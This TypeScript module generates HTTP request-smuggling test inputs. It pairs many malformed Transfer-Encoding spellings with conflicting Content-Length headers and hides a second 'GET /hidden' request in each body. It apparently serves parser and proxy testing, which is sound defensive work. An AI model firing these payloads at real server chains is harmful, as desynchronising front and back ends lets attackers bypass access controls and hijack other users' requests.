// Requests whose end two readers may see in two places, with a request hidden in what one of them takes for
// the body: every spelling of Transfer-Encoding with every one of Content-Length (RFC 9112 §11.2).

const encodings =
  'chunked|Chunked|xchunked|chunked, identity|identity|gzip, chunked|chunked,chunked|chunked |\tchunked|"chunked"|chunked;q=1|,chunked|'.split(
    '|',
  )

const encodingLines: readonly ((value: string) => string)[] = [
  (value) => `Transfer-Encoding: ${value}`,
  (value) => `Transfer-Encoding:${value}`,
  (value) => `Transfer-Encoding : ${value}`,
  (value) => ` Transfer-Encoding: ${value}`,
  (value) => `Transfer_Encoding: ${value}`,
  (value) => `Transfer-Encoding:\u000b${value}`,
  (value) => `Transfer-Encoding:\r\n ${value}`,
  (value) => `X: y\nTransfer-Encoding: ${value}`,
  (value) => `X: y\rTransfer-Encoding: ${value}`,
  (value) => `Transfer-Encoding\0: ${value}`,
]

const lengths = '0|5|+5|5, 5|5,6|-1|0x5|5 |5;|1e1|99999999999999999999'.split('|')
const lengthLines = [
  [],
  ...lengths.map((value) => [`Content-Length: ${value}`]),
  ['Content-Length: 5', 'Content-Length: 6'],
]

const hidden = 'GET /hidden HTTP/1.1\r\nHost: a.example\r\n\r\n'
const bodies = [
  `0\r\n\r\n${hidden}`,
  `5\r\nabcde\r\n0\r\n\r\n${hidden}`,
  `5;\n\r\n0\r\n\r\n${hidden}`,
]

export function ambiguousRequests(): Buffer[] {
  const framings = lengthLines.flatMap((lines) =>
    encodings.flatMap((encoding) =>
      encodingLines.map((lineOf) => [...lines, lineOf(encoding)].join('\r\n')),
    ),
  )
  return framings.flatMap((framing) =>
    bodies.map((body) =>
      Buffer.from(`POST / HTTP/1.1\r\nHost: a.example\r\n${framing}\r\n\r\n${body}`, 'latin1'),
    ),
  )
}
